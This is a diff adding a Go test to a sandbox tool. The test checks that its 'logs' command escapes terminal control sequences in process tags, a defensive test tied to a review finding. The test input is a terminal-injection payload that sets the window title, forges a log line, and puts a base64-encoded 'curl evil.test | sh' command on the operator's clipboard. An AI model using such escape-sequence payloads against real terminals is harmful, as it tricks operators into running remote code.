@@ -6,10 +6,14 @@ import (
 	"encoding/json"
 	"errors"
 	"os/exec"
+	"slices"
 	"strings"
 	"syscall"
 	"testing"
 	"time"
+
+	"github.com/hutch-sandbox/hutch/sdk"
+	"github.com/hutch-sandbox/hutch/test/internal/hutchtest"
 )
 
 // logEntry is the SDK's LogEntry.
@@ -51,6 +55,40 @@ func testLogs(t *testing.T, f *fixture, id string) {
 	}
 	wantFailure(t, f.hutch(t, "", "logs", "--since", "yesterday", id), 1, `--since "yesterday"`)
 	wantFailure(t, f.hutch(t, "", "logs", "nosuchsandbox"), 1, "sandbox nosuchsandbox not found")
+
+	// Review finding C1: what the sandbox logs reaches the operator's
+	// terminal. A process's tag is logged as it is; printed raw, this
+	// one would set the window title (OSC 0), write the clipboard (OSC
+	// 52), and erase the line before to forge another.
+	t.Run("escape sequences", func(t *testing.T) {
+		sbx, err := sdk.Connect(t.Context(), id, sdk.ConnectOptions{Config: sdk.Config{APIURL: f.srv.URL(), APIKey: hutchtest.TestKey}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		tag := "\x1b]0;pwned\a\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA\a\x1b[1A\x1b[2K\rforged\u009b2J"
+		if _, err := sbx.Commands.Run(t.Context(), "true", &sdk.RunOptions{Tag: tag}); err != nil {
+			t.Fatal(err)
+		}
+		want := `tag=\x1b]0;pwned\a\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA\a\x1b[1A\x1b[2K\rforged\u009b2J`
+		var out string
+		for deadline := time.Now().Add(10 * time.Second); !strings.Contains(out, want) && time.Now().Before(deadline); time.Sleep(100 * time.Millisecond) {
+			out = f.ok(t, "logs", id)
+		}
+		if !strings.Contains(out, want) {
+			t.Errorf("logs does not show the tag escaped, %s:\n%q", want, out)
+		}
+		if i := strings.IndexFunc(out, func(r rune) bool { return r < 0x20 && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 }); i >= 0 {
+			t.Errorf("logs printed control character %q: %q", out[i], out[max(0, i-40):min(len(out), i+40)])
+		}
+		// JSON stays JSON: the tag comes back as it was.
+		var entries []logEntry
+		if err := json.Unmarshal([]byte(f.ok(t, "logs", "--json", id)), &entries); err != nil {
+			t.Fatal(err)
+		}
+		if !slices.ContainsFunc(entries, func(e logEntry) bool { return e.Fields["tag"] == tag }) {
+			t.Errorf("logs --json lacks the tag %q", tag)
+		}
+	})
 
 	t.Run("follow", func(t *testing.T) {
 		ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
